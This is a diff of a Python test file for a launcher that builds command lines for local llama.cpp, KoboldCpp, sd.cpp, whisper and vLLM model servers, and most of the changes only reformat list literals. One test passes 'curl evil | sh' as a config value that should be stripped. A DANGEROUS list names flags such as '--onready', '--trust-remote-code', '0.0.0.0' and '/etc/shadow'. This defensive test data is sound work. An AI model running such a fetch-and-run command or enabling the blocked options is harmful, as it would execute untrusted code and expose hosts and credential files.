@@ -108,9 +108,17 @@ def test_llamacpp_text_argv_maps_kcpps_fields() -> None:
     )
     argv = LLAMA.argv(config, Lane.TEXT, 40001, make_settings())
     assert argv[:10] == [
-        "prog", "-m", "/models/hermes.gguf", "--host", "127.0.0.1", "--port", "40001",
-        "--alias", "hermes-8k", "-c",
-    ]  # fmt: skip
+        "prog",
+        "-m",
+        "/models/hermes.gguf",
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "40001",
+        "--alias",
+        "hermes-8k",
+        "-c",
+    ]
     assert flag_value(argv, "-c") == "8192"
     assert flag_value(argv, "-ngl") == "33"
     assert flag_value(argv, "--mmproj") == "/models/proj.gguf"
@@ -131,9 +139,18 @@ def test_llamacpp_auto_values_pass_nothing() -> None:
     config = make_config(gpulayers=-1, threads=-1, batchsize=-1, contextsize=0)
     argv = LLAMA.argv(config, Lane.TEXT, 5, make_settings())
     assert argv == [
-        "prog", "-m", "/models/hermes.gguf", "--host", "127.0.0.1", "--port", "5",
-        "--alias", "hermes-8k",
-    ]  # fmt: skip
+        "prog",
+        "-m",
+        "/models/hermes.gguf",
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "5",
+        "--alias",
+        "hermes-8k",
+        "-lv",
+        "4",
+    ]
 
 
 def test_llamacpp_cache_types_and_errors() -> None:
@@ -153,9 +170,16 @@ def test_llamacpp_embeddings_lane_is_a_second_server() -> None:
     )
     argv = LLAMA.argv(config, Lane.EMBEDDINGS, 7, make_settings())
     assert argv[:9] == [
-        "prog", "-m", "/models/bge.gguf", "--host", "127.0.0.1", "--port", "7",
-        "--alias", "hermes-8k",
-    ]  # fmt: skip
+        "prog",
+        "-m",
+        "/models/bge.gguf",
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "7",
+        "--alias",
+        "hermes-8k",
+    ]
     assert argv[9:12] == ["--embedding", "--pooling", "mean"]
     assert flag_value(argv, "-c") == "512"
     assert flag_value(argv, "-ngl") == "0"  # KoboldCpp keeps embeddings on CPU by default
@@ -249,28 +273,47 @@ def test_vllm_program_defaults(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) 
 def kobold_config(**raw: Any) -> ModelConfig:
     return make_config(
         mode=BackendMode.KOBOLD,
-        components={"model_param": "hermes.gguf", "sdmodel": "sdxl.safetensors",
-                    "embeddingsmodel": "bge.gguf"},
+        components={
+            "model_param": "hermes.gguf",
+            "sdmodel": "sdxl.safetensors",
+            "embeddingsmodel": "bge.gguf",
+        },
         **raw,
-    )  # fmt: skip
+    )
 
 
 def test_kobold_argv_uses_sanitized_copy(tmp_path: Path) -> None:
     argv = KOBOLD.argv(kobold_config(), Lane.TEXT, 41000, make_settings(), workdir=tmp_path)
     assert argv == [
-        "prog", "--config", str(tmp_path / "launch.kcpps"), "--host", "127.0.0.1",
-        "--port", "41000", "--skiplauncher", "--quiet",
-    ]  # fmt: skip
+        "prog",
+        "--config",
+        str(tmp_path / "launch.kcpps"),
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "41000",
+        "--skiplauncher",
+        "--quiet",
+    ]
     with pytest.raises(ConfigNotSupported, match="workdir"):
         KOBOLD.argv(kobold_config(), Lane.TEXT, 41000, make_settings())
 
 
 def test_kobold_launch_copy_drops_refused_keys() -> None:
     config = kobold_config(
-        onready="curl evil | sh", port_param=9999, host="0.0.0.0", password="pw",
-        remotetunnel=True, admin=True, admindir="/", mcpfile="mcp.json", contextsize=4096,
-        backend_mode="kobold", model=["relative.gguf"], jinja_kwargs={"x": 1},
-    )  # fmt: skip
+        onready="curl evil | sh",
+        port_param=9999,
+        host="0.0.0.0",
+        password="pw",
+        remotetunnel=True,
+        admin=True,
+        admindir="/",
+        mcpfile="mcp.json",
+        contextsize=4096,
+        backend_mode="kobold",
+        model=["relative.gguf"],
+        jinja_kwargs={"x": 1},
+    )
     files = KOBOLD.launch_files(config, Lane.TEXT, make_settings())
     launched = json.loads(files["launch.kcpps"])
     assert set(kobold_mod.REFUSED_KEYS) & set(launched) == {"port_param"}
@@ -306,9 +349,18 @@ def test_sdcpp_full_checkpoint_uses_m() -> None:
     )
     argv = SD.argv(config, Lane.IMAGE, 42000, make_settings())
     assert argv == [
-        "prog", "--listen-ip", "127.0.0.1", "--listen-port", "42000",
-        "-m", "/models/sdxl.safetensors", "--vae", "/models/vae.safetensors", "--threads", "4",
-    ]  # fmt: skip
+        "prog",
+        "--listen-ip",
+        "127.0.0.1",
+        "--listen-port",
+        "42000",
+        "-m",
+        "/models/sdxl.safetensors",
+        "--vae",
+        "/models/vae.safetensors",
+        "--threads",
+        "4",
+    ]
     assert SD.local_model_id(config, Lane.IMAGE) == "sd-cpp-local"
 
 
@@ -330,17 +382,24 @@ def test_sdcpp_model_flag_rule(components: dict[str, str], expected: str) -> Non
 
 def test_sdcpp_maps_encoders_and_switches() -> None:
     config = make_config(
-        components={"sdmodel": "f.gguf", "sdt5xxl": "t5.gguf", "sdclip1": "l.st",
-                    "sdvae": "ae.st"},
-        sdflashattention=True, sdoffloadcpu=True, sdconvdirect="full", sdclipdevice="cpu",
+        components={"sdmodel": "f.gguf", "sdt5xxl": "t5.gguf", "sdclip1": "l.st", "sdvae": "ae.st"},
+        sdflashattention=True,
+        sdoffloadcpu=True,
+        sdconvdirect="full",
+        sdclipdevice="cpu",
         sdloramodeldir="loras",
-    )  # fmt: skip
+    )
     argv = SD.argv(config, Lane.IMAGE, 1, make_settings())
     assert flag_value(argv, "--t5xxl") == "/models/t5.gguf"
     assert flag_value(argv, "--clip_l") == "/models/l.st"
     assert flag_value(argv, "--lora-model-dir") == "/models/kcpps/loras"  # relative to .kcpps
-    for switch in ("--diffusion-fa", "--offload-to-cpu", "--vae-conv-direct",
-                   "--diffusion-conv-direct", "--clip-on-cpu"):  # fmt: skip
+    for switch in (
+        "--diffusion-fa",
+        "--offload-to-cpu",
+        "--vae-conv-direct",
+        "--diffusion-conv-direct",
+        "--clip-on-cpu",
+    ):
         assert switch in argv
 
 
@@ -351,9 +410,18 @@ def test_whisper_argv(monkeypatch: pytest.MonkeyPatch) -> None:
     config = make_config(components={"whispermodel": "base.en.bin"}, threads=3)
     argv = WHISPER.argv(config, Lane.VOICE, 43000, make_settings())
     assert argv == [
-        "prog", "-m", "/models/base.en.bin", "--host", "127.0.0.1", "--port", "43000",
-        "--inference-path", "/v1/audio/transcriptions", "-t", "3",
-    ]  # fmt: skip
+        "prog",
+        "-m",
+        "/models/base.en.bin",
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "43000",
+        "--inference-path",
+        "/v1/audio/transcriptions",
+        "-t",
+        "3",
+    ]
     assert "--convert" not in argv
     monkeypatch.setattr(whisper_mod.shutil, "which", lambda name: None)
     with pytest.raises(BackendUnavailable, match="ffmpeg"):
@@ -375,15 +443,37 @@ def vllm_config(**raw: Any) -> ModelConfig:
 def test_vllm_argv_and_serve_args() -> None:
     config = vllm_config(
         contextsize=4096,
-        serve_args=["--dtype", "float32", "--enforce-eager", "--lora-modules", "a=/l/a", "b=/l/b",
-                    "--gpu-memory-utilization=0.8"],
-    )  # fmt: skip
+        serve_args=[
+            "--dtype",
+            "float32",
+            "--enforce-eager",
+            "--lora-modules",
+            "a=/l/a",
+            "b=/l/b",
+            "--gpu-memory-utilization=0.8",
+        ],
+    )
     argv = VLLM.argv(config, Lane.TEXT, 44000, make_settings())
     assert argv == [
-        "prog", "--model", "/models/Qwen2-0.5B", "--host", "127.0.0.1", "--port", "44000",
-        "--served-model-name", "qwen", "--max-model-len", "4096", "--dtype", "float32",
-        "--enforce-eager", "--lora-modules", "a=/l/a", "b=/l/b", "--gpu-memory-utilization=0.8",
-    ]  # fmt: skip
+        "prog",
+        "--model",
+        "/models/Qwen2-0.5B",
+        "--host",
+        "127.0.0.1",
+        "--port",
+        "44000",
+        "--served-model-name",
+        "qwen",
+        "--max-model-len",
+        "4096",
+        "--dtype",
+        "float32",
+        "--enforce-eager",
+        "--lora-modules",
+        "a=/l/a",
+        "b=/l/b",
+        "--gpu-memory-utilization=0.8",
+    ]
     own_len = vllm_config(contextsize=4096, serve_args=["--max-model-len", "512"])
     assert VLLM.argv(own_len, Lane.TEXT, 1, make_settings()).count("--max-model-len") == 1
 
@@ -529,10 +619,25 @@ def test_extra_args_are_appended_last(family: Family, extra: list[str]) -> None:
 
 
 DANGEROUS = [
-    "--onready", "sh -c x", "--host", "0.0.0.0", "--host=::", "--trust-remote-code", "--port",
-    "-m", "/etc/shadow", "--api-key", "--listen-ip", "-l", "--allow-config-onready",
-    "--threads", "4", "--served-model-name", "--hos", "--listen_ip",
-]  # fmt: skip
+    "--onready",
+    "sh -c x",
+    "--host",
+    "0.0.0.0",
+    "--host=::",
+    "--trust-remote-code",
+    "--port",
+    "-m",
+    "/etc/shadow",
+    "--api-key",
+    "--listen-ip",
+    "-l",
+    "--allow-config-onready",
+    "--threads",
+    "4",
+    "--served-model-name",
+    "--hos",
+    "--listen_ip",
+]
 
 
 @hsettings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@@ -810,14 +915,24 @@ async def test_real_llama_server_text_and_embeddings(tmp_path: Path) -> None:
     embed = write_bert_gguf(tmp_path / "embed.gguf", seed=2, name="embed")
     settings = Settings(llama=ProgramSection(command=tuple(_real_llama(Settings()))))
     config = ModelConfig(
-        id="chat", path=tmp_path / "chat.kcpps",
-        raw={"contextsize": 256, "threads": 1, "batchsize": 64, "parallel": 1, "quantkv": 0,
-             "flashattention": True, "jinja": True, "gpulayers": 0},
+        id="chat",
+        path=tmp_path / "chat.kcpps",
+        raw={
+            "contextsize": 256,
+            "threads": 1,
+            "batchsize": 64,
+            "parallel": 1,
+            "quantkv": 0,
+            "flashattention": True,
+            "jinja": True,
+            "gpulayers": 0,
+        },
         backend_mode=BackendMode.LLAMA_SDCPP,
         components={"model_param": chat, "embeddingsmodel": embed},
-        lanes=frozenset({Lane.TEXT, Lane.EMBEDDINGS}), image_id=None,
+        lanes=frozenset({Lane.TEXT, Lane.EMBEDDINGS}),
+        image_id=None,
         jinja_kwargs={"enable_thinking": False},
-    )  # fmt: skip
+    )
     for lane in (Lane.TEXT, Lane.EMBEDDINGS):
         port = free_port()
         await _run_until_ready(LLAMA.argv(config, lane, port, settings), config, lane, port)
